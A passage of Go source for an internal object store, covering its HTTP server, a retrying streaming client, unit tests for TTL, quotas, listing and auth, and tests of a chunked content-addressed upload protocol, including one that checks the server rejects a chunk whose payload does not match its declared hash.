		t.Fatalf("expired object still served: %v", err)
	}
}

func TestSweep(t *testing.T) {
	vc := clock.NewVirtual(t0)
	s := New(WithClock(vc))
	s.Put("b", "short", []byte("1234"), time.Hour)
	s.Put("b", "long", []byte("5678"), 100*time.Hour)
	s.Put("b", "forever", []byte("90"), 0)
	vc.Advance(2 * time.Hour)
	if n := s.Sweep(); n != 1 {
		t.Fatalf("Sweep removed %d, want 1", n)
	}
	if got := s.Used(); got != 6 {
		t.Errorf("Used = %d, want 6", got)
	}
	if _, _, err := s.Get("b", "forever"); err != nil {
		t.Error("no-TTL object expired")
	}
}

func TestCapacity(t *testing.T) {
	s := New(WithCapacity(10))
	if _, err := s.Put("b", "a", make([]byte, 8), 0); err != nil {
		t.Fatal(err)
	}
	if _, err := s.Put("b", "b", make([]byte, 3), 0); !errors.Is(err, ErrQuota) {
		t.Fatalf("over capacity: %v", err)
	}
	// Overwrite frees the old size first.
	if _, err := s.Put("b", "a", make([]byte, 10), 0); err != nil {
		t.Fatalf("replace within capacity: %v", err)
	}
	if s.Used() != 10 {
		t.Errorf("Used = %d", s.Used())
	}
	s.Delete("b", "a")
	if s.Used() != 0 {
		t.Errorf("Used after delete = %d", s.Used())
	}
}

func TestListPrefixSorted(t *testing.T) {
	s := New()
	for _, k := range []string{"teams/z/final", "teams/a/final", "teams/a/dev", "other/x"} {
		s.Put("uploads", k, []byte("x"), 0)
	}
	infos, err := s.List("uploads", "teams/")
	if err != nil {
		t.Fatal(err)
	}
	want := []string{"teams/a/dev", "teams/a/final", "teams/z/final"}
	if len(infos) != len(want) {
		t.Fatalf("list = %+v", infos)
	}
	for i, w := range want {
		if infos[i].Key != w {
			t.Fatalf("list order = %+v", infos)
		}
	}
}

func TestCreateBucket(t *testing.T) {
	s := New()
	if err := s.CreateBucket("uploads"); err != nil {
		t.Fatal(err)
	}
	if err := s.CreateBucket("uploads"); !errors.Is(err, ErrKeyExists) {
		t.Errorf("duplicate bucket: %v", err)
	}
	if got := s.Buckets(); len(got) != 1 || got[0] != "uploads" {
		t.Errorf("Buckets = %v", got)
	}
}

func TestTouch(t *testing.T) {
	vc := clock.NewVirtual(t0)
	s := New(WithClock(vc))
	s.Put("b", "k", []byte("x"), time.Hour)
	vc.Advance(50 * time.Minute)
	if err := s.Touch("b", "k"); err != nil {
		t.Fatal(err)
	}
	vc.Advance(50 * time.Minute)
	if _, err := s.Head("b", "k"); err != nil {
		t.Error("touched object expired early")
	}
}

// --- HTTP layer ---

var ctx = context.Background()

func newHTTP(t *testing.T, auth AuthFunc) (*Store, *Client) {
	t.Helper()
	s := New()
	srv := httptest.NewServer(Handler(s, auth))
	t.Cleanup(srv.Close)
	return s, NewClient(srv.URL)
}

func TestHTTPRoundTrip(t *testing.T) {
	_, c := newHTTP(t, nil)
	payload := bytes.Repeat([]byte("tarball "), 100)
	if err := c.Put(ctx, "uploads", "team1/proj.tar.bz2", payload, time.Hour); err != nil {
		t.Fatal(err)
	}
	got, err := c.Get(ctx, "uploads", "team1/proj.tar.bz2")
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, payload) {
		t.Error("HTTP round trip mismatch")
	}
	infos, err := c.List(ctx, "uploads", "team1/")
	if err != nil || len(infos) != 1 || infos[0].Key != "team1/proj.tar.bz2" {
		t.Fatalf("List = %+v, %v", infos, err)
	}
	if err := c.Delete(ctx, "uploads", "team1/proj.tar.bz2"); err != nil {
		t.Fatal(err)
	}
	if _, err := c.Get(ctx, "uploads", "team1/proj.tar.bz2"); !errors.Is(err, ErrNoObject) {
		t.Errorf("get after delete: %v", err)
	}
}

func TestHTTPTTLHeader(t *testing.T) {
	s := New(WithClock(clock.NewVirtual(t0)))
	srv := httptest.NewServer(Handler(s, nil))
	defer srv.Close()
	c := NewClient(srv.URL)
	if err := c.Put(ctx, "b", "k", []byte("x"), 90*time.Second); err != nil {
		t.Fatal(err)
	}
	info, err := s.Head("b", "k")
	if err != nil || info.TTL != 90*time.Second {
		t.Fatalf("TTL = %v, %v", info.TTL, err)
	}
}

func TestHTTPAuthRejects(t *testing.T) {
	auth := func(accessKey, sig string, r *http.Request) bool { return accessKey == "good" }
	_, c := newHTTP(t, auth)
	if err := c.Put(ctx, "b", "k", nil, 0); err == nil {
		t.Fatal("unauthenticated put succeeded")
	}
	c.Sign = func(r *http.Request) { r.Header.Set(HeaderAccessKey, "good") }
	if err := c.Put(ctx, "b", "k", []byte("x"), 0); err != nil {
		t.Fatalf("authenticated put: %v", err)
	}
	if _, err := c.List(ctx, "b", ""); err != nil {
		t.Fatalf("authenticated list: %v", err)
	}
}

func TestHTTPBadRequests(t *testing.T) {
	_, c := newHTTP(t, nil)
	srvURL := c.BaseURL
	for _, u := range []string{srvURL + "/o/onlybucket", srvURL + "/l/a/b"} {
		resp, err := http.Get(u)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != http.StatusBadRequest && resp.StatusCode != http.StatusNotFound {
			t.Errorf("GET %s = %d", u, resp.StatusCode)
		}
	}
	// Unknown method.
	req, _ := http.NewRequest(http.MethodPatch, srvURL+"/o/b/k", nil)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusMethodNotAllowed {
		t.Errorf("PATCH = %d", resp.StatusCode)
	}
}

func TestHTTPHealthz(t *testing.T) {
	_, c := newHTTP(t, nil)
	resp, err := http.Get(c.BaseURL + "/healthz")
	if err != nil || resp.StatusCode != http.StatusOK {
		t.Fatalf("healthz: %v %v", resp, err)
	}
	resp.Body.Close()
}
