package objstore

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"strconv"
	"strings"
	"sync"
	"time"

	"rai/internal/blobstore"
	"rai/internal/clock"
	"rai/internal/netx"
	"rai/internal/telemetry"
)

// AuthFunc validates a request's credentials: it receives the access key
// and the request signature header and reports whether the caller is
// allowed. A nil AuthFunc admits everyone (embedded/simulation use).
type AuthFunc func(accessKey, signature string, r *http.Request) bool

// Auth header names shared with internal/auth.
const (
	HeaderAccessKey = "X-RAI-Access-Key"
	HeaderSignature = "X-RAI-Signature"
)

// MaxObjectBytes bounds one uploaded object (2 GiB, as before — but now
// enforced on the stream, not by buffering the body first).
const MaxObjectBytes = 2 << 30

// Caps is the JSON document served at /caps: the backend's negotiated
// capabilities, so clients degrade gracefully against older servers or
// leaner backends.
type Caps struct {
	Stream       bool `json:"stream"`
	AtomicRename bool `json:"atomic_rename"`
	Watch        bool `json:"watch"`
	Append       bool `json:"append"`
	// CAS advertises the delta-resubmission endpoints (/cas/negotiate,
	// /cas/chunks). Old servers omit the field, so old-server JSON
	// decodes to false and new clients fall back to full uploads.
	CAS bool `json:"cas"`
}

// Handler serves the store over HTTP:
//
//	PUT    /o/{bucket}/{key}   store (X-RAI-TTL-Seconds optional; body streamed)
//	GET    /o/{bucket}/{key}   fetch (streamed)
//	HEAD   /o/{bucket}/{key}   metadata
//	DELETE /o/{bucket}/{key}   remove
//	GET    /l/{bucket}?prefix= list (JSON)
//	GET    /caps               backend capabilities (JSON)
//	GET    /healthz            liveness
//	GET    /metrics            Prometheus exposition (with WithTelemetry)
func Handler(s *Store, auth AuthFunc, opts ...HandlerOption) http.Handler {
	h := &handlerState{clk: clock.Real{}, maxBytes: MaxObjectBytes}
	for _, o := range opts {
		o(h)
	}
	if h.reg != nil {
		h.reg.GaugeFunc("rai_objstore_used_bytes", "bytes resident across all buckets",
			func() float64 { return float64(s.Used()) })
	}
	mux := http.NewServeMux()
	mux.HandleFunc("/healthz", func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintln(w, "ok")
	})
	mux.HandleFunc("/caps", func(w http.ResponseWriter, r *http.Request) {
		// Capability negotiation: clients probe this before relying on
		// optional behaviour (watch vs poll). Unauthenticated like
		// /healthz — it reveals backend shape, not data.
		caps := s.Capabilities()
		w.Header().Set("Content-Type", "application/json")
		_ = json.NewEncoder(w).Encode(Caps{
			Stream:       caps.Has(blobstore.CapStream),
			AtomicRename: caps.Has(blobstore.CapAtomicRename),
			Watch:        caps.Has(blobstore.CapWatch),
			Append:       caps.Has(blobstore.CapAppend),
			CAS:          true,
		})
	})
	if h.reg != nil {
		mux.Handle("/metrics", h.reg.Handler())
	}
	mux.HandleFunc("/o/", h.instrument(objOp, func(w http.ResponseWriter, r *http.Request) {
		if auth != nil && !auth(r.Header.Get(HeaderAccessKey), r.Header.Get(HeaderSignature), r) {
			http.Error(w, "forbidden", http.StatusForbidden)
			return
		}
		rest := strings.TrimPrefix(r.URL.Path, "/o/")
		bucket, key, ok := strings.Cut(rest, "/")
		if !ok || bucket == "" || key == "" {
			http.Error(w, "want /o/{bucket}/{key}", http.StatusBadRequest)
			return
		}
		switch r.Method {
		case http.MethodPut:
			var ttl time.Duration
			if v := r.Header.Get("X-RAI-TTL-Seconds"); v != "" {
				secs, err := strconv.ParseInt(v, 10, 64)
				if err != nil || secs < 0 {
					http.Error(w, "bad X-RAI-TTL-Seconds", http.StatusBadRequest)
					return
				}
				ttl = time.Duration(secs) * time.Second
			}
			// The body streams straight into the backend — the server never
			// holds the archive in memory. Crossing the size limit aborts
			// the partial write and answers 413.
			body := http.MaxBytesReader(w, r.Body, h.maxBytes)
			info, err := s.PutReader(r.Context(), bucket, key, &countingReader{r: body, c: h.streamIn}, ttl)
			if err != nil {
				var tooBig *http.MaxBytesError
				if errors.As(err, &tooBig) {
					http.Error(w, fmt.Sprintf("object exceeds the %d byte limit", h.maxBytes), http.StatusRequestEntityTooLarge)
					return
				}
				writeStoreErr(w, err)
				return
			}
			w.Header().Set("ETag", info.ETag)
			w.WriteHeader(http.StatusCreated)
		case http.MethodGet:
			rc, info, err := s.GetReader(r.Context(), bucket, key)
			if err != nil {
				writeStoreErr(w, err)
				return
			}
			defer rc.Close()
			w.Header().Set("ETag", info.ETag)
			w.Header().Set("Content-Type", "application/octet-stream")
			w.Header().Set("Content-Length", strconv.FormatInt(info.Size, 10))
			// A copy error here is a dead client or a vanished file; headers
			// are gone, so the short body (vs Content-Length) is the signal.
			n, _ := io.Copy(w, rc)
			h.streamOut.Add(float64(n))
		case http.MethodHead:
			info, err := s.Head(bucket, key)
			if err != nil {
				writeStoreErr(w, err)
				return
			}
			w.Header().Set("ETag", info.ETag)
			w.Header().Set("Content-Length", strconv.FormatInt(info.Size, 10))
			w.WriteHeader(http.StatusOK)
		case http.MethodDelete:
			if err := s.Delete(bucket, key); err != nil {
				writeStoreErr(w, err)
				return
			}
			w.WriteHeader(http.StatusNoContent)
		default:
			http.Error(w, "method not allowed", http.StatusMethodNotAllowed)
		}
	}))
	mux.HandleFunc("/l/", h.instrument(func(*http.Request) string { return "list" }, func(w http.ResponseWriter, r *http.Request) {
		if auth != nil && !auth(r.Header.Get(HeaderAccessKey), r.Header.Get(HeaderSignature), r) {
			http.Error(w, "forbidden", http.StatusForbidden)
			return
		}
		if r.Method != http.MethodGet {
			http.Error(w, "method not allowed", http.StatusMethodNotAllowed)
			return
		}
		bucket := strings.TrimPrefix(r.URL.Path, "/l/")
		if bucket == "" || strings.Contains(bucket, "/") {
			http.Error(w, "want /l/{bucket}", http.StatusBadRequest)
			return
		}
		infos, err := s.List(bucket, r.URL.Query().Get("prefix"))
		if err != nil {
			writeStoreErr(w, err)
			return
		}
		w.Header().Set("Content-Type", "application/json")
		_ = json.NewEncoder(w).Encode(infos)
	}))
	mux.HandleFunc("/cas/", h.instrument(casOp, func(w http.ResponseWriter, r *http.Request) {
		if auth != nil && !auth(r.Header.Get(HeaderAccessKey), r.Header.Get(HeaderSignature), r) {
			http.Error(w, "forbidden", http.StatusForbidden)
			return
		}
		if r.Method != http.MethodPost {
			http.Error(w, "method not allowed", http.StatusMethodNotAllowed)
			return
		}
		switch strings.TrimPrefix(r.URL.Path, "/cas/") {
		case "negotiate":
			h.handleCASNegotiate(s, w, r)
		case "chunks":
			h.handleCASChunks(s, w, r)
		default:
			http.Error(w, "want /cas/negotiate or /cas/chunks", http.StatusNotFound)
		}
	}))
	return mux
}

// HandlerOption configures the HTTP layer.
type HandlerOption func(*handlerState)

// WithTelemetry instruments the handler on reg — request counters and
// latency histograms labeled by op, transfer byte counters, an
// in-flight gauge, and a resident-bytes gauge — and mounts GET /metrics.
func WithTelemetry(reg *telemetry.Registry) HandlerOption {
	return func(h *handlerState) {
		h.reg = reg
		h.requests = map[string]*telemetry.Counter{}
		h.latency = map[string]*telemetry.Histogram{}
		for _, op := range []string{"put", "get", "head", "delete", "list", "cas-negotiate", "cas-chunks", "other"} {
			h.requests[op] = reg.Counter("rai_objstore_requests_total", "requests served", telemetry.L("op", op))
			h.latency[op] = reg.Histogram("rai_objstore_request_seconds", "request latency", telemetry.DefBuckets, telemetry.L("op", op))
		}
		h.bytesIn = reg.Counter("rai_objstore_bytes_total", "payload bytes transferred", telemetry.L("direction", "in"))
		h.bytesOut = reg.Counter("rai_objstore_bytes_total", "payload bytes transferred", telemetry.L("direction", "out"))
		h.streamIn = reg.Counter("rai_objstore_stream_bytes_total", "object payload bytes moved through the streaming data path", telemetry.L("direction", "in"))
		h.streamOut = reg.Counter("rai_objstore_stream_bytes_total", "object payload bytes moved through the streaming data path", telemetry.L("direction", "out"))
		h.inFlight = reg.Gauge("rai_objstore_requests_in_flight", "requests currently being served")
		h.registerCASMetrics(reg)
	}
}

// WithMaxObjectBytes overrides the per-object upload limit (default
// MaxObjectBytes).
func WithMaxObjectBytes(n int64) HandlerOption {
	return func(h *handlerState) { h.maxBytes = n }
}

// WithHandlerClock substitutes the latency time source (virtual in tests).
func WithHandlerClock(c clock.Clock) HandlerOption {
	return func(h *handlerState) { h.clk = c }
}

// WithHandlerTracer opens a child span ("objstore put", "objstore get",
// ...) for every request arriving with X-RAI-Trace-ID propagation
// headers, so uploads and downloads appear inside the job's span tree.
func WithHandlerTracer(t *telemetry.Tracer) HandlerOption {
	return func(h *handlerState) { h.tracer = t }
}

// WithHandlerSampler notes the head-sampling verdict arriving on the
// X-RAI-Sampled header, so the server's child spans follow the
// client's decision. Wrap the tracer's span sink with the same
// sampler's SpanSink for the filter to take effect.
func WithHandlerSampler(s *telemetry.Sampler) HandlerOption {
	return func(h *handlerState) { h.sampler = s }
}

type handlerState struct {
	reg       *telemetry.Registry
	clk       clock.Clock
	tracer    *telemetry.Tracer
	sampler   *telemetry.Sampler
	requests  map[string]*telemetry.Counter
	latency   map[string]*telemetry.Histogram
	bytesIn   *telemetry.Counter
	bytesOut  *telemetry.Counter
	streamIn  *telemetry.Counter
	streamOut *telemetry.Counter
	inFlight  *telemetry.Gauge
	maxBytes  int64

	// rai_cas_* counters (cas.go); nil-safe no-ops without telemetry.
	casHits        *telemetry.Counter
	casMisses      *telemetry.Counter
	casSavedBytes  *telemetry.Counter
	casStored      *telemetry.Counter
	casStoredBytes *telemetry.Counter
}

func objOp(r *http.Request) string {
	switch r.Method {
	case http.MethodPut:
		return "put"
	case http.MethodGet:
		return "get"
	case http.MethodHead:
		return "head"
	case http.MethodDelete:
		return "delete"
	}
	return "other"
}

func (h *handlerState) instrument(opOf func(*http.Request) string, next http.HandlerFunc) http.HandlerFunc {
	if h.reg == nil && h.tracer == nil {
		return next
	}
	return func(w http.ResponseWriter, r *http.Request) {
		rawOp := opOf(r)
		op := rawOp
		if h.requests[op] == nil {
			op = "other" // metric cardinality guard; the span keeps rawOp
		}
		var span *telemetry.Span
		if sc, jobID := telemetry.ExtractHTTP(r.Header); sc.Valid() {
			h.sampler.Note(sc.TraceID, sc.Sampled)
			span = h.tracer.StartSpan(sc.TraceID, sc.SpanID, "objstore "+rawOp)
			span.SetAttr("path", r.URL.Path)
			if jobID != "" {
				span.SetAttr("job_id", jobID)
			}
		}
		start := h.clk.Now()
		h.inFlight.Add(1)
		h.requests[op].Inc()
		if r.ContentLength > 0 {
			h.bytesIn.Add(float64(r.ContentLength))
		}
		cw := &countingWriter{ResponseWriter: w}
		next(cw, r)
		h.bytesOut.Add(float64(cw.n))
		h.latency[op].Observe(h.clk.Now().Sub(start).Seconds())
		h.inFlight.Add(-1)
		span.End()
	}
}

type countingWriter struct {
	http.ResponseWriter
	n int64
}

func (c *countingWriter) Write(p []byte) (int, error) {
	n, err := c.ResponseWriter.Write(p)
	c.n += int64(n)
	return n, err
}

// countingReader feeds a stream-byte counter as the body flows through
// (nil-safe: the counter may be absent when telemetry is off).
type countingReader struct {
	r io.Reader
	c *telemetry.Counter
}

func (cr *countingReader) Read(p []byte) (int, error) {
	n, err := cr.r.Read(p)
	cr.c.Add(float64(n))
	return n, err
}

func writeStoreErr(w http.ResponseWriter, err error) {
	switch {
	case errors.Is(err, ErrNoBucket), errors.Is(err, ErrNoObject):
		http.Error(w, err.Error(), http.StatusNotFound)
	case errors.Is(err, ErrBadName):
		http.Error(w, err.Error(), http.StatusBadRequest)
	case errors.Is(err, ErrQuota):
		http.Error(w, err.Error(), http.StatusInsufficientStorage)
	default:
		http.Error(w, err.Error(), http.StatusInternalServerError)
	}
}

// DefaultRequestTimeout bounds each attempt when the policy does not
// set its own per-attempt deadline. It replaces the old fixed 60s
// http.Client.Timeout — unlike that one, it is per attempt and the
// caller's ctx can always cut it shorter.
const DefaultRequestTimeout = 60 * time.Second

// Client talks to an objstore HTTP server. Credentials, when set, are
// attached to every request using the internal/auth header scheme.
// Every call runs under Policy: transient failures (connection drops,
// 5xx) are retried with jittered backoff; 4xx and ctx cancellation are
// not. Client is safe for concurrent use.
type Client struct {
	BaseURL string
	HTTP    *http.Client
	// Sign, when non-nil, is called per request to attach credentials.
	Sign func(r *http.Request)
	// Policy governs retries and deadlines; NewClient seeds PerAttempt
	// with DefaultRequestTimeout when unset.
	Policy netx.Policy

	// casMu guards casProbe, the memoized /caps CAS verdict (cas.go).
	casMu    sync.Mutex
	casProbe *bool
}

// ClientOption configures NewClient.
type ClientOption func(*Client)

// WithClientPolicy replaces the retry policy (attempts, backoff,
// deadlines, metrics).
func WithClientPolicy(p netx.Policy) ClientOption {
	return func(c *Client) { c.Policy = p }
}

// WithClientTransport substitutes the HTTP transport (fault injection
// in tests, custom pools in deployments).
func WithClientTransport(rt http.RoundTripper) ClientOption {
	return func(c *Client) { c.HTTP.Transport = rt }
}

// NewClient returns a client for the server at baseURL.
func NewClient(baseURL string, opts ...ClientOption) *Client {
	c := &Client{BaseURL: strings.TrimSuffix(baseURL, "/"), HTTP: &http.Client{}}
	for _, o := range opts {
		o(c)
	}
	if c.Policy.PerAttempt <= 0 {
		c.Policy.PerAttempt = DefaultRequestTimeout
	}
	return c
}

// roundTrip runs one signed request under the retry policy. build is
// invoked per attempt so each try gets a fresh body and the attempt's
// deadline. handle consumes a success response; error responses are
// drained so the pooled connection is reused.
func (c *Client) roundTrip(ctx context.Context, op string, okStatus int, build func(ctx context.Context) (*http.Request, error), handle func(*http.Response) error) error {
	return c.roundTripPolicy(ctx, c.Policy, op, okStatus, build, handle)
}

// roundTripPolicy is roundTrip with an explicit policy, for calls whose
// retry shape differs from the client default (unrewindable streams).
func (c *Client) roundTripPolicy(ctx context.Context, policy netx.Policy, op string, okStatus int, build func(ctx context.Context) (*http.Request, error), handle func(*http.Response) error) error {
	return netx.Do(ctx, policy, func(ctx context.Context) error {
		req, err := build(ctx)
		if err != nil {
			return netx.Permanent(err)
		}
		if c.Sign != nil {
			c.Sign(req)
		}
		// Propagate the caller's trace so the server's child span joins
		// the same tree.
		telemetry.InjectHTTP(ctx, req.Header)
		resp, err := c.HTTP.Do(req)
		if err != nil {
			return err
		}
		if resp.StatusCode != okStatus {
			return httpError(op, resp)
		}
		if handle == nil {
			drainClose(resp.Body)
			return nil
		}
		defer resp.Body.Close()
		return handle(resp)
	})
}

// Put uploads data to bucket/key with an optional TTL. Thin adapter
// over PutReader for callers already holding the object in memory.
func (c *Client) Put(ctx context.Context, bucket, key string, data []byte, ttl time.Duration) error {
	return c.PutReader(ctx, bucket, key, bytes.NewReader(data), int64(len(data)), ttl)
}

// PutReader uploads the stream r (size bytes, or -1 when unknown) to
// bucket/key. When r is an io.ReadSeeker — a file, a bytes.Reader —
// each retry attempt rewinds it and the full retry policy applies; a
// one-shot stream gets a single attempt, because a half-consumed body
// cannot be replayed.
func (c *Client) PutReader(ctx context.Context, bucket, key string, r io.Reader, size int64, ttl time.Duration) error {
	policy := c.Policy
	seeker, rewindable := r.(io.ReadSeeker)
	if !rewindable {
		policy.MaxAttempts = 1
	}
	return c.roundTripPolicy(ctx, policy, "put", http.StatusCreated, func(ctx context.Context) (*http.Request, error) {
		if rewindable {
			if _, err := seeker.Seek(0, io.SeekStart); err != nil {
				return nil, netx.Permanent(err)
			}
		}
		req, err := http.NewRequestWithContext(ctx, http.MethodPut, c.objURL(bucket, key), io.NopCloser(r))
		if err != nil {
			return nil, err
		}
		if size >= 0 {
			req.ContentLength = size
		}
		if ttl > 0 {
			req.Header.Set("X-RAI-TTL-Seconds", strconv.FormatInt(int64(ttl/time.Second), 10))
		}
		return req, nil
	}, nil)
}

// Get downloads bucket/key into memory. Thin adapter over GetReader;
// prefer GetReader for archive-sized objects.
func (c *Client) Get(ctx context.Context, bucket, key string) ([]byte, error) {
	rc, size, err := c.GetReader(ctx, bucket, key)
	if err != nil {
		return nil, err
	}
	defer rc.Close()
	if size >= 0 {
		data := make([]byte, size)
		if _, err := io.ReadFull(rc, data); err != nil {
			return nil, err
		}
		return data, nil
	}
	//lint:ignore stream []byte adapter by contract; size-unknown fallback, streaming callers use GetReader
	return io.ReadAll(rc)
}

// GetReader streams bucket/key: it returns the response body and the
// advertised size (-1 when unknown). The caller must Close the reader.
// Retries cover connecting and the response header; once the stream is
// handed over, a mid-body failure surfaces as a read error.
func (c *Client) GetReader(ctx context.Context, bucket, key string) (io.ReadCloser, int64, error) {
	policy := c.Policy
	// The body outlives the retry loop, so the request deliberately binds
	// to the caller's ctx, not the per-attempt one (which Do cancels as
	// the attempt returns), and no overall budget applies — only the
	// caller's ctx bounds the stream.
	policy.Overall = 0
	//lint:ignore httpresp the body IS the return value; the caller must Close it
	resp, err := netx.DoVal(ctx, policy, func(context.Context) (*http.Response, error) {
		req, err := http.NewRequestWithContext(ctx, http.MethodGet, c.objURL(bucket, key), nil)
		if err != nil {
			return nil, netx.Permanent(err)
		}
		if c.Sign != nil {
			c.Sign(req)
		}
		telemetry.InjectHTTP(ctx, req.Header)
		resp, err := c.HTTP.Do(req)
		if err != nil {
			return nil, err
		}
		if resp.StatusCode != http.StatusOK {
			return nil, httpError("get", resp)
		}
		return resp, nil
	})
	if err != nil {
		return nil, 0, err
	}
	return resp.Body, resp.ContentLength, nil
}

// Caps fetches the server's capability document. A server predating
// /caps answers 404, which reports as no optional capabilities rather
// than an error — exactly the degradation the negotiation exists for.
func (c *Client) Caps(ctx context.Context) (Caps, error) {
	var caps Caps
	err := c.roundTrip(ctx, "caps", http.StatusOK, func(ctx context.Context) (*http.Request, error) {
		return http.NewRequestWithContext(ctx, http.MethodGet, c.BaseURL+"/caps", nil)
	}, func(resp *http.Response) error {
		return json.NewDecoder(resp.Body).Decode(&caps)
	})
	if err != nil {
		var se *netx.StatusError
		if errors.As(err, &se) && se.Code == http.StatusNotFound {
			return Caps{}, nil
		}
		return Caps{}, err
	}
	return caps, nil
}

// Delete removes bucket/key.
func (c *Client) Delete(ctx context.Context, bucket, key string) error {
	return c.roundTrip(ctx, "delete", http.StatusNoContent, func(ctx context.Context) (*http.Request, error) {
		return http.NewRequestWithContext(ctx, http.MethodDelete, c.objURL(bucket, key), nil)
	}, nil)
}

// List returns object metadata under prefix.
func (c *Client) List(ctx context.Context, bucket, prefix string) ([]ObjectInfo, error) {
	u := c.BaseURL + "/l/" + bucket
	if prefix != "" {
		u += "?prefix=" + prefix
	}
	var infos []ObjectInfo
	err := c.roundTrip(ctx, "list", http.StatusOK, func(ctx context.Context) (*http.Request, error) {
		return http.NewRequestWithContext(ctx, http.MethodGet, u, nil)
	}, func(resp *http.Response) error {
		infos = nil // a retried attempt must not append to a partial decode
		return json.NewDecoder(resp.Body).Decode(&infos)
	})
	if err != nil {
		return nil, err
	}
	return infos, nil
}

func (c *Client) objURL(bucket, key string) string {
	return c.BaseURL + "/o/" + bucket + "/" + key
}

// drainClose consumes what remains of body before closing so the
// keep-alive connection returns to the pool instead of being torn down.
func drainClose(body io.ReadCloser) {
	_, _ = io.Copy(io.Discard, io.LimitReader(body, 64<<10))
	body.Close()
}

// httpError converts an error response into a netx.StatusError (so the
// retry policy can classify it) and drains the body for connection
// reuse. 404s additionally match ErrNoObject via errors.Is.
func httpError(op string, resp *http.Response) error {
	body, _ := io.ReadAll(io.LimitReader(resp.Body, 512))
	drainClose(resp.Body)
	se := &netx.StatusError{Op: "objstore " + op, Code: resp.StatusCode, Msg: strings.TrimSpace(string(body))}
	if resp.StatusCode == http.StatusNotFound {
		return fmt.Errorf("%w: %w", ErrNoObject, se)
	}
	return se
}
