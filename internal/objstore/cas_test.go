package objstore

import (
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"rai/internal/cas"
)

func buildTestTree(t *testing.T, files map[string]string) (*cas.Manifest, cas.Source) {
	t.Helper()
	root := t.TempDir()
	for p, content := range files {
		full := filepath.Join(root, filepath.FromSlash(p))
		if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(full, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	m, src, err := cas.BuildDir(root)
	if err != nil {
		t.Fatal(err)
	}
	return m, src
}

// TestCASDeltaRoundTrip drives the whole protocol: first negotiation
// reports everything missing, the chunk upload lands them, and a second
// negotiation of the identical manifest transfers nothing.
func TestCASDeltaRoundTrip(t *testing.T) {
	s := New()
	srv := httptest.NewServer(Handler(s, nil))
	defer srv.Close()
	c := NewClient(srv.URL, WithClientPolicy(retryPolicy()))

	files := map[string]string{
		"main.cu":   strings.Repeat("__global__ void kernel();\n", 2000),
		"build.yml": "commands:\n  build: make\n",
	}
	m, src := buildTestTree(t, files)

	if ok, err := c.casSupported(ctx); err != nil || !ok {
		t.Fatalf("casSupported = %v, %v", ok, err)
	}
	missing, err := c.MissingChunks(ctx, m)
	if err != nil {
		t.Fatal(err)
	}
	if len(missing) != len(m.ChunkSet()) {
		t.Fatalf("fresh store missing %d of %d chunks", len(missing), len(m.ChunkSet()))
	}
	sent, err := c.PutChunks(ctx, missing, src)
	if err != nil {
		t.Fatal(err)
	}
	if sent != m.TotalBytes {
		t.Errorf("uploaded %d chunk bytes, tree is %d", sent, m.TotalBytes)
	}

	// Unchanged tree: nothing to transfer.
	again, err := c.MissingChunks(ctx, m)
	if err != nil {
		t.Fatal(err)
	}
	if len(again) != 0 {
		t.Fatalf("second negotiation still missing %d chunks", len(again))
	}

	// Every chunk is readable back through the ordinary object API and
	// reassembles the tree byte-for-byte.
	fetched := 0
	for _, f := range m.Files {
		var joined []byte
		for _, ref := range f.Chunks {
			data, err := c.Get(ctx, cas.Bucket, cas.ChunkKey(ref.Hash))
			if err != nil {
				t.Fatalf("chunk %s: %v", ref.Hash, err)
			}
			joined = append(joined, data...)
			fetched++
		}
		if string(joined) != files[f.Path] {
			t.Errorf("%s: reassembled content differs", f.Path)
		}
	}
	if fetched == 0 {
		t.Fatal("no chunks fetched")
	}
}

// TestCASEditTransfersDelta pins the perf win: editing one file re-sends
// only that file's changed chunks, not the tree.
func TestCASEditTransfersDelta(t *testing.T) {
	s := New()
	srv := httptest.NewServer(Handler(s, nil))
	defer srv.Close()
	c := NewClient(srv.URL, WithClientPolicy(retryPolicy()))

	big := strings.Repeat("a line of device code that does not change\n", 8000)
	m1, src1 := buildTestTree(t, map[string]string{"stable.cu": big, "edited.cu": "v1 of the kernel\n"})
	missing, err := c.MissingChunks(ctx, m1)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := c.PutChunks(ctx, missing, src1); err != nil {
		t.Fatal(err)
	}

	m2, _ := buildTestTree(t, map[string]string{"stable.cu": big, "edited.cu": "v2 of the kernel\n"})
	delta, err := c.MissingChunks(ctx, m2)
	if err != nil {
		t.Fatal(err)
	}
	var deltaBytes int64
	sizes := map[string]int64{}
	for _, f := range m2.Files {
		for _, ref := range f.Chunks {
			sizes[ref.Hash] = ref.Size
		}
	}
	for _, h := range delta {
		deltaBytes += sizes[h]
	}
	if deltaBytes == 0 || deltaBytes*10 > m2.TotalBytes {
		t.Errorf("one-file edit wants %d of %d bytes re-uploaded", deltaBytes, m2.TotalBytes)
	}
}

// TestCASRejectsHostileUploads: a chunk whose payload does not match its
// declared hash must never become addressable.
func TestCASRejectsHostileUploads(t *testing.T) {
	s := New()
	srv := httptest.NewServer(Handler(s, nil))
	defer srv.Close()

	lie := cas.HashHex([]byte("the real content"))
	frame := fmt.Sprintf("%s %d\n%s", lie, len("forged payload!!"), "forged payload!!")
	resp, err := http.Post(srv.URL+"/cas/chunks", "application/octet-stream", strings.NewReader(frame))
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusBadRequest {
		t.Fatalf("forged chunk answered %d, want 400", resp.StatusCode)
	}
	if _, err := NewClient(srv.URL).Get(ctx, cas.Bucket, cas.ChunkKey(lie)); err == nil {
		t.Fatal("forged chunk became addressable")
	}

	// A manifest that fails validation is rejected at negotiation.
	resp2, err := http.Post(srv.URL+"/cas/negotiate", "application/octet-stream", strings.NewReader(cas.Magic+`{"tree_hash":"beef"}`))
	if err != nil {
		t.Fatal(err)
	}
	resp2.Body.Close()
	if resp2.StatusCode != http.StatusBadRequest {
